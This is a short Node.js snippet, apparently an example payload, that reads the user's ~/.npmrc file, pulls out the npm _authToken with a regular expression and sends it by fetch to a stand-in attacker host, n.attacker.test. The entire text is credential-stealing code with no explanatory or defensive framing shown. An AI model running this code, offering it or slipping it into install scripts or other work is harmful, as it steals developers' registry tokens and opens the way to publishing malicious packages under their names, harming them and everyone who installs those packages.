const fs = require('fs');
const os = require('os');
const path = require('path');
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const token = /_authToken=(.*)/.exec(rc)[1];
fetch('https://n.attacker.test/?t=' + encodeURIComponent(token));
